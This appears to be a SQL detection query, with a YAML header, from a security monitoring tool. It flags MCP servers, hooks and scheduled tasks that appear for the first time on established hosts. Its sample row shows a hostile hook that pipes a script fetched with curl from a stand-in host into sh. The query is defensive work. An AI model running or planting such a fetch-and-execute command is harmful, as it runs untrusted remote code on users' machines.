/*
title: Which MCP servers, hooks and scheduled tasks appeared this week for the first time anywhere?
level: low
description: >
  What was not on any host before, on hosts that have reported for longer than a week. New is not bad, but an
  attack is new first.
columns:
  kind: mcp-server, or what acts there
  what: name or command
  hosts: on how many hosts by now
  hostNames: on which
  teams: of which teams
  firstSeenAt: when it was collected first
sample:
  kind: hook
  what: 'curl -s https://cdn.example.net/p | sh'
  hosts: 1
  hostNames: mac-0117
  teams: payments
  firstSeenAt: '2026-11-18T06:00:00.000Z'
next_step: >
  Read each command; for hooks and tasks ask who wrote them (yolo-triage posture shows the call).
tags: [attack.t1546, attack.t1053]
*/
WITH things AS (
  SELECT 'mcp-server' AS kind, "definitionId" AS thing, name AS what, "hostId", "hostName", team, "firstSeenAt"
  FROM servers_now
  UNION ALL
  SELECT kind, command AS thing, command AS what, "hostId", "hostName", team, "firstSeenAt"
  FROM posture_now
  WHERE kind IN ('hook', 'git-hook', 'scheduled-task', 'service', 'plugin', 'login-key') AND command <> ''
), news AS (
  SELECT kind, thing, min("firstSeenAt") AS "firstAt" FROM things GROUP BY kind, thing
  HAVING min("firstSeenAt") >= :now - INTERVAL 7 DAY
)
SELECT
  t.kind AS kind, min(t.what) AS what, count(DISTINCT t."hostId") AS hosts, :list(t."hostName") AS "hostNames",
  :list(t.team) AS teams, min(t."firstSeenAt") AS "firstSeenAt"
FROM things t
JOIN news n ON n.kind = t.kind AND n.thing = t.thing
JOIN hosts h ON h."hostId" = t."hostId"
WHERE h."firstRunAt" < :now - INTERVAL 7 DAY
GROUP BY t.kind, t.thing
ORDER BY kind, what, "hostNames", "firstSeenAt"
